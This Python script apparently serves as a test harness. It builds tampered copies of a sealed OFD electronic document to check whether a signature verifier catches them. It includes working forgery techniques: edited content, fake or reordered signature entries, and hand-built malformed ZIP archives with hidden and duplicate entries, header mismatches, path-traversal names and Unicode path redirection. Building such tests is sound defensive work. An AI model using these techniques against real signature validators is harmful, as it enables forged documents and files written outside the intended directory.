"""Builds the published attacks on OFD signatures from a sealed OFD of ours, for
ofd_attacks.sh: python3 ofd_attack.py ATTACK SRC DST [ARG...]. Content changes are written
with zipfile; what zipfile will not write (duplicate names, local entries the central
directory leaves out or contradicts, names with "..", "/" or "\\") is written byte by byte
from APPNOTE 4.3 by write_zip below. Nothing here is sealsvc code."""
import re
import struct
import sys
import zipfile
import zlib


def entries(src):
    """(name, data) of every file entry of SRC, in archive order."""
    z = zipfile.ZipFile(src)
    return [(i.filename, z.read(i)) for i in z.infolist() if not i.filename.endswith("/")]


def rezip(dst, files):
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(name, data)


def signatures_path(files):
    ofd = dict(files)["OFD.xml"].decode()
    return re.search(r"<ofd:Signatures>/?([^<]*)<", ofd).group(1)


def edit(files, name, fn):
    return [(n, fn(d) if n == name else d) for n, d in files]


def zip64(src, dst):
    """The package rewritten by zipfile with ZIP64 local headers (sizes 0xFFFFFFFF in the
    header, the real ones in its ZIP64 extra field: APPNOTE 4.5.3): the control."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries(src):
            with z.open(name, "w", force_zip64=True) as w:
                w.write(data)


# ---- content attacks (zipfile) ----

def flip(src, dst, name):
    """One byte of NAME changed: in XML, a digit (a coordinate, an ID, a size), so that the
    file stays well-formed and only what it says differs."""
    def f(d):
        i = len(d) // 2
        if name.endswith(".xml"):
            i = next(k for k in list(range(len(d) // 2, len(d))) + list(range(len(d))) if 0x30 <= d[k] <= 0x39)
            return d[:i] + bytes([0x30 + (d[i] - 0x30 + 1) % 10]) + d[i + 1:]
        return d[:i] + bytes([d[i] ^ 0x20]) + d[i + 1:]
    rezip(dst, edit(entries(src), name, f))


def add(src, dst, name, data):
    """A file NAME added, nothing else touched."""
    rezip(dst, entries(src) + [(name, data.encode())])


def disguise(src, dst, name, data):
    """A file NAME added, and a new signature entry in the (open) signature list that names
    it as its Seal.esl, so that it looks like a later signature's own file."""
    files = entries(src)
    lst = signatures_path(files)
    folder = lst.rsplit("/", 1)[0] + "/Sign_99/"
    sig = ('<?xml version="1.0" encoding="UTF-8"?><ofd:Signature xmlns:ofd="http://www.ofdspec.org/2016">'
           '<ofd:SignedInfo><ofd:References CheckMethod="1.2.156.10197.1.401">'
           '<ofd:Reference FileRef="/%s"><ofd:CheckValue>AAAA</ofd:CheckValue></ofd:Reference>'
           '</ofd:References><ofd:Seal><ofd:BaseLoc>/%s</ofd:BaseLoc></ofd:Seal></ofd:SignedInfo>'
           '<ofd:SignedValue>/%sSignedValue.dat</ofd:SignedValue></ofd:Signature>') % (lst, name, folder)
    files = edit(files, lst, lambda d: d.replace(
        b"</ofd:Signatures>",
        b'<ofd:Signature ID="99" Type="Seal" BaseLoc="/' + folder.encode() + b'Signature.xml"/></ofd:Signatures>'))
    rezip(dst, files + [(name, data.encode()), (folder + "Signature.xml", sig.encode()),
                        (folder + "SignedValue.dat", b"\x30\x00")])


def _sig_elements(d):
    return list(re.finditer(rb"<ofd:Signature [^>]*/>", d))


def drop(src, dst, index):
    """Signature INDEX (0-based) removed from the signature list; its files stay."""
    files = entries(src)

    def f(d):
        m = _sig_elements(d)[int(index)]
        return d[:m.start()] + d[m.end():]
    rezip(dst, edit(files, signatures_path(files), f))


def reorder(src, dst):
    """The first two signatures of the list swapped."""
    files = entries(src)

    def f(d):
        a, b = _sig_elements(d)[:2]
        return d[:a.start()] + b.group(0) + d[a.end():b.start()] + a.group(0) + d[b.end():]
    rezip(dst, edit(files, signatures_path(files), f))


def twice(src, dst):
    """The first signature listed a second time, under a new ID."""
    files = entries(src)

    def f(d):
        first = _sig_elements(d)[0].group(0)
        copy = re.sub(rb'ID="[^"]*"', b'ID="77"', first)
        return d.replace(b"</ofd:Signatures>", copy + b"</ofd:Signatures>")
    rezip(dst, edit(files, signatures_path(files), f))


def swap(src, dst, a, b):
    """The contents of files A and B exchanged."""
    files = entries(src)
    da, db = dict(files)[a], dict(files)[b]
    rezip(dst, [(n, db if n == a else da if n == b else d) for n, d in files])


def signature_xml(src, dst, index, what):
    """Signature INDEX's Signature.xml edited: "boundary" moves its StampAnnot, "stamp"
    adds a second StampAnnot on the same page."""
    files = entries(src)
    lst = dict(files)[signatures_path(files)]
    loc = re.search(rb'BaseLoc="/?([^"]*)"', _sig_elements(lst)[int(index)].group(0)).group(1).decode()
    if "/" not in loc or not any(n == loc for n, _ in files):
        loc = signatures_path(files).rsplit("/", 1)[0] + "/" + loc

    def f(d):
        m = re.search(rb'<ofd:StampAnnot [^>]*/>', d)
        if what == "boundary":
            moved = re.sub(rb'Boundary="([^ "]*)', lambda b: b'Boundary="' + str(float(b.group(1)) + 50).encode(),
                           m.group(0))
            return d[:m.start()] + moved + d[m.end():]
        extra = re.sub(rb'ID="[^"]*"', b'ID="9999"', m.group(0))
        return d[:m.end()] + extra + d[m.end():]
    rezip(dst, edit(files, loc, f))


# ---- zip structure attacks (written by hand, APPNOTE 4.3) ----

class Entry:
    """One entry: what the local header says and what the central directory says."""

    def __init__(self, name, data):
        self.data = zlib.compress(data)[2:-4]  # raw deflate (method 8)
        self.crc = zlib.crc32(data)
        self.size = len(data)
        self.method = 8
        self.local = dict(name=name.encode("utf-8", "surrogateescape"), crc=self.crc, comp=len(self.data), size=self.size,
                          method=8, extra=b"")
        self.central = dict(self.local)
        self.listed = True  # in the central directory
        self.offset_of = None  # central directory offset taken from another entry


def local_header(e):
    h = e.local
    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0x800, h["method"], 0, 0x21, h["crc"],
                       h["comp"], h["size"], len(h["name"]), len(h["extra"])) + h["name"] + h["extra"]


def write_zip(dst, items):
    out = bytearray()
    offsets = {}
    for e in items:
        offsets[id(e)] = len(out)
        out += local_header(e) + e.data
    cd = bytearray()
    listed = [e for e in items if e.listed]
    for e in listed:
        c = e.central
        off = offsets[id(e.offset_of if e.offset_of else e)]
        cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0x800, c["method"], 0, 0x21,
                          c["crc"], c["comp"], c["size"], len(c["name"]), len(c["extra"]), 0, 0, 0, 0,
                          off) + c["name"] + c["extra"]
    start = len(out)
    out += cd
    out += struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(listed), len(listed), len(cd), start, 0)
    open(dst, "wb").write(bytes(out))


def items_of(src):
    return [Entry(n, d) for n, d in entries(src)]


def plain(src, dst):
    """The package rewritten by write_zip with nothing changed: the control."""
    write_zip(dst, items_of(src))


def dup(src, dst, name):
    """A second entry NAME (other content) in the archive and its directory."""
    items = items_of(src)
    data = dict(entries(src))[name]
    items.append(Entry(name, data.replace(b"</ofd:", b"<!-- x --></ofd:", 1)))
    write_zip(dst, items)


def hidden(src, dst, name):
    """A local entry NAME with other content before the central directory, which the
    directory does not list: a streaming reader extracts it over the listed one."""
    items = items_of(src)
    data = dict(entries(src))[name]
    e = Entry(name, data.replace(b"</ofd:", b"<!-- x --></ofd:", 1))
    e.listed = False
    items.append(e)
    write_zip(dst, items)


def mismatch(src, dst, name, field):
    """The local header of NAME disagrees with its directory record in FIELD: name, size,
    crc, method, or offset (the record points at another entry's local header)."""
    items = items_of(src)
    e = next(i for i in items if i.local["name"] == name.encode())
    if field == "name":
        e.local["name"] = e.local["name"][:-1] + b"X"
    elif field == "size":
        e.local["size"] += 1
    elif field == "crc":
        e.local["crc"] ^= 1
    elif field == "method":
        e.local["method"] = 0
    elif field == "offset":
        e.offset_of = next(i for i in items if i is not e)
    write_zip(dst, items)


def badname(src, dst, name):
    """An extra entry called NAME (with "..", a leading "/" or a backslash)."""
    write_zip(dst, items_of(src) + [Entry(name, b"<x/>")])


def casedup(src, dst, name):
    """A second entry whose name differs from NAME only in case (other content)."""
    data = dict(entries(src))[name]
    other = name.rsplit("/", 1)
    other = other[0] + "/" + other[1].upper() if len(other) == 2 else name.upper()
    write_zip(dst, items_of(src) + [Entry(other, data.replace(b"</ofd:", b"<!-- x --></ofd:", 1))])


def unicode_path(src, dst, name, target):
    """Entry NAME given an Info-ZIP Unicode Path extra field (0x7075) naming TARGET, in its
    local header and its directory record: 7-Zip extracts it as TARGET."""
    items = items_of(src)
    e = next(i for i in items if i.local["name"] == name.encode())
    t = target.encode()
    extra = struct.pack("<HHBI", 0x7075, 5 + len(t), 1, zlib.crc32(e.local["name"])) + t
    e.local["extra"] = e.central["extra"] = extra
    write_zip(dst, items)


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
